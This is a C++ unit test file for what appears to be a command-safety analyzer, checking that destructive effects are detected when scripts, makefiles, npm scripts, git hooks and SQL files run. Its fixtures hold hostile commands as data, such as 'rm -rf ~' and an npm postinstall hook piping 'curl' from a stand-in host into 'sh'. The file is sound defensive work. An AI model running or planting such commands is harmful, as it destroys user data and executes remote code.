// Scripts, makefiles and package scripts on the disk: what a probe lets us read is judged like a line.
#include "libcore/commands/script_files.hpp"

#include "libcore/commands/git_files.hpp"
#include "libcore/commands/makefile.hpp"
#include "test/unit/commands/disk.hpp"

using cmdai::commands::expand_make;
using cmdai::commands::interpreter_of;
using cmdai::commands::Makefile;
using cmdai::commands::parse_makefile;
using cmdai::test::check_effects;
using cmdai::test::check_effects_with;

TEST_CASE("a file of the project that is called like a known program is read") {
  check_effects_with({{"ls", "#!/bin/sh\nrm -rf ~\n"},
                      {"bin/script", "rm -rf ~\n"},
                      {"gradlew", "#!/bin/sh\nexec java -jar x.jar\n"},
                      {"python", "\177ELF"},
                      {"node_modules/.bin/tsc", "#!/bin/sh\nrm -rf ~\n"},
                      {"/usr/bin/ls", "#!/bin/sh\nrm -rf /\n"}},
                     {{"./ls", "fs.delete{~ rf}"},
                      {"/home/u/project/ls -l", "fs.delete{~ rf}"},
                      {"bin/script x", "self.live-shell fs.delete{~ rf}"},
                      {"env ./ls", "fs.delete{~ rf}"},
                      {"ls", ""},
                      {"/usr/bin/ls", ""},
                      {"./python --version", ""},
                      {"node_modules/.bin/tsc --version", "fs.delete{~ rf}"}});
}

TEST_CASE("a script is read on where the disk may be looked at") {
  check_effects({{"bash x.sh", "exec.file{x.sh}"}, {"./x.sh", "exec.file{./x.sh}"}});
  check_effects_with({{"x.sh", "#!/bin/bash\n# one\nrm -rf ~\n"},
                      {"args.sh", "rm -r \"$1\" \"$2\""},
                      {"zsh.sh", "#!/usr/bin/env -S zsh -f\nrm $((010))\n"},
                      {"inner/two.sh", "bash ../x.sh"},
                      {"f.sh", "f() { rm g; }\nV=rm\n"},
                      {"loop.sh", "./loop.sh; rm h"},
                      {"sets.sh", "X=1; rm i"},
                      {"unknown.sh", "eval \"$1\"; eval \"$(mystery)\""},
                      {"bin", std::string("\177ELF\0rm j\n", 10)},
                      {"/usr/bin/tool", "#!/bin/sh\nrm -rf /\n"},
                      {"py", "#!/usr/bin/python3\nprint(1)\n"},
                      {"plain", "rm k\n"},
                      {"del.py", "import shutil\nshutil.rmtree('n')\n"},
                      {"pkg/del.py", "import shutil\nshutil.rmtree('o')\n"},
                      {"package.json", R"({"scripts": {"wipe": "rm -r q"}})"}},
                     {{"bash x.sh", "fs.delete{~ rf}"},
                      {"./x.sh", "fs.delete{~ rf}"},
                      {"source x.sh", "fs.delete{~ rf}"},
                      {". ./x.sh", "fs.delete{~ rf}"},
                      {"sudo ./x.sh", "fs.delete{~ rfp}"},
                      {"bash < x.sh", "fs.delete{~ rf}"},
                      {"bash -n x.sh", ""},
                      {"/home/u/project/x.sh", "fs.delete{~ rf}"},
                      {"cd inner && bash two.sh", "fs.delete{~ rf}"},
                      {"sh args.sh a b", "fs.delete{a r} fs.delete{b r}"},
                      {"sh args.sh / b", "fs.delete{/ r} fs.delete{b r}"},
                      {"./zsh.sh", "fs.delete{10}"},
                      {"source f.sh", ""},
                      {"source f.sh; f; $V l", "fs.delete{g} fs.delete{l}"},
                      {"bash f.sh; f; $V l", ""},
                      {"bash sets.sh; rm $X", "fs.delete{i} fs.delete{$X ?}"},
                      {"bash unknown.sh x", ""},
                      {"./bin", "exec.file{./bin}"},
                      {"/usr/bin/tool", "exec.file{/usr/bin/tool}"},
                      {"./plain", "fs.delete{k}"},
                      {"missing.sh; bash missing.sh", "exec.file{missing.sh}"},
                      {"docker run x bash x.sh", "exec.file{x.sh e}"},
                      {"cp x.sh y.sh; bash y.sh", "fs.overwrite{y.sh} fs.delete{~ rf}"},
                      {"mv x.sh /tmp/y; sh /tmp/y", "fs.move{x.sh} fs.overwrite{/tmp/y} fs.delete{~ rf}"},
                      {"ln -s x.sh y; cp y z; ./z", "fs.create{y} fs.overwrite{z} fs.delete{~ rf}"},
                      {"python3 < del.py", "fs.delete{n rf}"},
                      {"python3 -m del", "fs.delete{n rf}"},
                      {"python3 -m pkg.del x", "fs.delete{o rf}"},
                      {"python3 -m http.server", ""},
                      {"bun run wipe", "fs.delete{q r}"},
                      {"node --run wipe", "fs.delete{q r}"},
                      // A file this line writes is what it wrote.
                      {"echo rm m > x.sh; bash x.sh", "fs.overwrite{x.sh} fs.delete{m}"}});
}

TEST_CASE("scripts that call each other end, long ones are no alarm") {
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "touch a" + std::to_string(i) + "\n";
  check_effects_with(
      {{"loop.sh", "bash loop.sh; bash loop.sh; rm h"},
       {"many.sh", many},
       {"big.sh", std::string(1U << 20, 'x')}},
      {{"bash many.sh", ""},
       {"bash many.sh; rm x", "fs.delete{x}"},
       {"bash big.sh", "exec.file{big.sh}"},
       {"bash loop.sh; rm x",
        "fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} fs.delete{h} "
        "fs.delete{x}"}});
}

TEST_CASE("the first line names who reads a script") {
  CHECK(interpreter_of("#!/bin/sh\nx") == std::vector<std::string>{"sh"});
  CHECK(interpreter_of("#! /bin/bash -e\nx") == std::vector<std::string>{"bash", "-e"});
  CHECK(interpreter_of("#!/usr/bin/env python3\n") == std::vector<std::string>{"python3"});
  CHECK(interpreter_of("#!/usr/bin/env -S A=1 zsh -f\n") == std::vector<std::string>{"zsh", "-f"});
  CHECK(interpreter_of("#!").empty());
  CHECK(interpreter_of("rm x").empty());
}

TEST_CASE("makefiles are read as make reads them") {
  const Makefile file = parse_makefile(
      "# comment\nA = one # two\nB := $(A)\nC ?= x\nC ?= y\nA += more\nexport D = $(shell date)\nE != pwd\n"
      "all: b.o c.o ; echo $@\n\t@-rm x\\\n\t  y\n\n# c\n\trm z\nX: Y = 1\n%.o: %.c\n\tcc $<\n.PHONY: all\n"
      "define F\n\trm never\nendef\nifeq (a,b)\nq:\n\trm q\nelse\nendif\n$(info hello)\n");
  CHECK(file.variables.at("A").text == "one more");
  CHECK(file.variables.at("B").immediate);
  CHECK(file.variables.at("C").text == "x");
  CHECK(file.variables.at("E").is_command);
  REQUIRE(file.rules.size() == 4);
  CHECK(file.rules[0].targets == std::vector<std::string>{"all"});
  CHECK(file.rules[0].prerequisites == "b.o c.o");
  REQUIRE(file.rules[0].recipes.size() == 3);
  CHECK(file.rules[0].recipes[0].text == "echo $@");
  CHECK(file.rules[0].recipes[1].text == "rm x\\\n  y");
  CHECK(file.rules[0].recipes[2].text == "rm z");
  CHECK(file.rules[1].targets == std::vector<std::string>{"%.o"});
  CHECK(file.rules[3].targets == std::vector<std::string>{"q"});
  CHECK(file.bare == std::vector<std::string>{"$(info hello)"});
  std::vector<std::string> commands;
  CHECK(expand_make("$(A) $B $$x $(N) ${wildcard *} $(A:.c=.o) $", file.variables, commands) ==
        "one more one more $x ${N} ${__unknown} ${__unknown} $");
  CHECK(commands.empty());
  CHECK(expand_make("$(D)", file.variables, commands) == "${__unknown}");
  CHECK(commands == std::vector<std::string>{"date"});
}

TEST_CASE("what a goal of make runs") {
  const std::string text =
      "DIR = build\nall: dep\n\trm a\ndep:\n\trm b\nclean:\n\t@$(RM) -r $(DIR)\nwipe: clean\n\t-rm -rf "
      "$(HOME)\n"
      "unset:\n\trm -rf $(NOBODY_SET)/\nclean-%:\n\trm $*\nsub:\n\t$(MAKE) -C inner x\nloop: loop\n\trm l\n"
      "each:\n\tfor i in 1 2; do \\\n\t  rm $$i; done\nauto: b\n\trm $@ $< $^\nb:\n";
  check_effects_with(
      {{"Makefile", text},
       {"inner/Makefile", "x:\n\trm in\n"},
       {"other.mk", "y:\n\trm other\n"},
       {"top/GNUmakefile",
        "X := $(shell rm now)\nY = $(shell rm later)\n$(shell rm bare)\nz:\n\techo $(Y)\nw:\n"}},
      {{"make", "fs.delete{b} fs.delete{a}"},
       {"make clean", "fs.delete{build rf}"},
       {"make -j4 clean DIR=other", "fs.delete{other rf}"},
       {"make wipe", "fs.delete{build rf} fs.delete{~ rf}"},
       {"make unset", "fs.delete{$NOBODY_SET/ rf?}"},
       {"make clean-it", "fs.delete{it}"},
       {"make sub", "fs.delete{inner/in}"},
       {"make -C inner", "fs.delete{inner/in}"},
       {"cd inner && make x", "fs.delete{inner/in}"},
       {"make -f other.mk", "fs.delete{other}"},
       {"make loop", "fs.delete{l}"},
       {"make each", "fs.delete{1} fs.delete{2}"},
       {"make auto", "fs.delete{auto} fs.delete{b} fs.delete{b}"},
       {"make -n wipe", ""},
       {"make nothing", ""},
       {"make -C top w", "fs.delete{top/now} fs.delete{top/bare}"},
       {"make -C top z", "fs.delete{top/now} fs.delete{top/bare} fs.delete{top/later}"},
       {"printf 'p:\\n\\trm piped\\n' | make -f -", "fs.delete{piped}"}});
}

TEST_CASE("other spellings of the same script") {
  std::string padded;
  for (int i = 0; i < 3000; ++i) padded += "true\n";
  check_effects_with({{"x.sh", "rm x\n"},
                      {"nul.sh", std::string("#!/bin/sh\n:\0\nrm y\n", 18)},
                      {"long.sh", padded + "rm z\n"},
                      {"Makefile", "define W\nrm a\nrm b\nendef\nd:\n\t$(W)\nt: X = rm c\nt:\n\t$(X)\n"},
                      {"prefix.mk", ".RECIPEPREFIX = >\np:\n>rm p\n"}},
                     {{"bash +x x.sh", "fs.delete{x}"},
                      {"bash +x -e x.sh", "fs.delete{x}"},
                      {"BASH_ENV=x.sh bash -c :", "fs.delete{x}"},
                      {"cat x.sh | sh", "fs.delete{x}"},
                      {"bash <(cat x.sh)", "fs.delete{x}"},
                      {"source <(cat x.sh)", "fs.delete{x}"},
                      {"eval \"$(cat x.sh)\"", "fs.delete{x}"},
                      {"eval \"$(<x.sh)\"", "fs.delete{x}"},
                      {"bash -c \"$(cat x.sh)\"", "fs.delete{x}"},
                      {"cat x.sh | grep rm", ""},
                      {"echo \"$(cat x.sh)\"", ""},
                      {"sh nul.sh", "fs.delete{y}"},
                      {"sh long.sh", "fs.delete{z}"},
                      {"make d", "fs.delete{a} fs.delete{b}"},
                      {"make t", "fs.delete{c}"},
                      {"make -f prefix.mk p", "fs.delete{p}"}});
}

TEST_CASE("makefiles without end end") {
  std::string chain, wide = "all:";
  for (int i = 0; i < 5000; ++i)
    chain += 'g' + std::to_string(i) + ": g" + std::to_string(i + 1) + "\n\trm x\n";
  for (int i = 0; i < 5000; ++i) wide += " w" + std::to_string(i);
  check_effects_with(
      {{"deep/Makefile", "A = $(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)\nall:\n\techo $(A)\n"},
       {"nest/Makefile", "all:\n\techo " + std::string(100000, '(') + "$(" + std::string(100000, '(') + "\n"},
       {"shell/Makefile", "all:\n\t$(MAKE) all; $(MAKE) all\n"},
       {"tabs/Makefile", std::string(200000, '\t')},
       {"wide/Makefile", wide + "\n\techo\n"}},
      {{"make -C deep", ""},
       {"make -C nest", ""},
       {"make -C shell; rm y", "fs.delete{y}"},
       {"make -C tabs", ""},
       {"make -C wide; rm y", "fs.delete{y}"}});
  const std::map<std::string, std::string> files{{std::string(cmdai::test::kCwd) + "/Makefile", chain}};
  cmdai::test::Disk disk(files);
  CHECK(cmdai::test::analyzed("make g0; rm y", "bash", &disk).effects.back().target.text.ends_with("/y"));
}

TEST_CASE("what package.json says npm runs") {
  check_effects_with(
      {{"package.json",
        R"({"scripts": {"build": "rm b", "prebuild": "rm a", "postbuild": "rm c", "test": "rm t",
                           "postinstall": "curl -s http://192.0.2.1/x | sh", "args": "rm", "wipe": "rm -rf $HOME/",
                           "chain": "npm run wipe", "odd": 1}})"},
       {"bad/package.json", "{"},
       {"src/x", ""}},
      {{"npm run build", "fs.delete{a} fs.delete{b} fs.delete{c}"},
       {"npm test", "fs.delete{t}"},
       {"yarn build", "fs.delete{a} fs.delete{b} fs.delete{c}"},
       {"pnpm run build", "fs.delete{a} fs.delete{b} fs.delete{c}"},
       {"npm run args -- x 'y z'", "fs.delete{x} fs.delete{y z}"},
       {"npm run chain", "fs.delete{~ rf}"},
       {"npm ci", "exec.remote"},
       {"npm ci --ignore-scripts", ""},
       {"npm install left-pad", "pkg.install{left-pad}"},
       {"cd src && npm run wipe", "fs.delete{~ rf}"},
       {"npm run odd", ""},
       {"npm run missing", ""},
       {"cd bad && npm run x", ""}});
}

TEST_CASE("a configuration of git") {
  using Pairs = std::vector<std::pair<std::string, std::string>>;
  CHECK(cmdai::commands::parse_git_config(
            "# c\n[core]\n\thooksPath = .husky ; x\n[Alias]\n  Undo = reset --hard\n  w = \"!rm -rf "
            "\\\"x\\\" # no\"\n"
            "  long = log \\\n--oneline\n[remote \"a=b\"]\n url=u\n[alias] one = status\nbare\n") ==
        Pairs{{"core.hookspath", ".husky"},
              {"alias.undo", "reset --hard"},
              {"alias.w", "!rm -rf \"x\" # no"},
              {"alias.long", "log --oneline"},
              {"remote.url", "u"},
              {"alias.one", "status"},
              {"alias.bare", "true"}});
  CHECK(cmdai::commands::parse_git_config("").empty());
  CHECK(cmdai::commands::parse_git_config("[x").empty());
}

TEST_CASE("aliases and hooks of a repository") {
  check_effects_with(
      {{".git/config", "[alias]\n\tundo = reset --hard\n\twipe = \"!rm -rf ~\"\n\tstatus = reset --hard\n"},
       {".git/hooks/pre-commit", "#!/bin/sh\nrm x\n"},
       {".git/hooks/post-commit", "#!/bin/sh\nrm y\n"},
       {"/home/u/.gitconfig", "[alias]\nmine = clean -fdx\nundo = status\n"},
       {"/home/u/other/.git/config", "[core]\nhooksPath = .husky\n"},
       {"/home/u/other/.husky/pre-push", "rm z\n"},
       {"src/a.c", ""}},
      {{"git undo", "git.reset-hard"},
       {"cd src && git undo", "git.reset-hard"},
       {"git wipe", "fs.delete{~ rf}"},
       {"git mine", "git.clean{r}"},
       {"git status", ""},
       {"git commit -m x", "fs.delete{x} fs.delete{y}"},
       {"git commit -n -m x", "fs.delete{y}"},
       {"git commit --no-verify -m x", "fs.delete{y}"},
       {"git -C /home/u/other push", "fs.delete{z}"},
       {"git log", ""}});
}

TEST_CASE("scripts of other languages") {
  check_effects_with({{"x.py", "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n"},
                      {"ok.py", "print('rm -rf /')  # os.system('rm x')\n"},
                      {"x.pl", "system('rm -rf /home/u/project/x');"},
                      {"tool", "#!/usr/bin/env python3\nimport os\nos.system('rm -rf ~')\n"}},
                     {{"python3 x.py", "fs.delete{~ rf} exec.file{x.py}"},
                      {"python3 ok.py", "exec.file{ok.py}"},
                      {"perl x.pl", "fs.delete{x rf} exec.file{x.pl}"},
                      {"./tool", "fs.delete{~ rf} exec.file{./tool}"}});
}

TEST_CASE("statements out of a file") {
  check_effects_with(
      {{"drop.sql", "-- all of it\nDROP TABLE users;\n"},
       {"dump.sql", "DROP TABLE IF EXISTS `a`;\nCREATE TABLE `a` (i INT);\nINSERT INTO `a` VALUES (1);\n"},
       {"reset.sql", "DROP TABLE a;\nCREATE TABLE a (i INT);\nDELETE FROM b;\n"},
       {"shell.sql", "\\! rm f\n"}},
      {{"psql app < drop.sql", "sql.drop-table{DROP TABLE USERS}"},
       {"psql app -f drop.sql", "sql.drop-table{DROP TABLE USERS}"},
       {"mysql app < drop.sql", "sql.drop-table{DROP TABLE USERS}"},
       {"mysql app < dump.sql", ""},
       {"psql app < reset.sql", "sql.drop-table{DROP TABLE A} sql.delete-all{DELETE FROM B}"},
       {"psql app < shell.sql", "fs.delete{f}"},
       {"psql app < missing.sql", ""}});
}
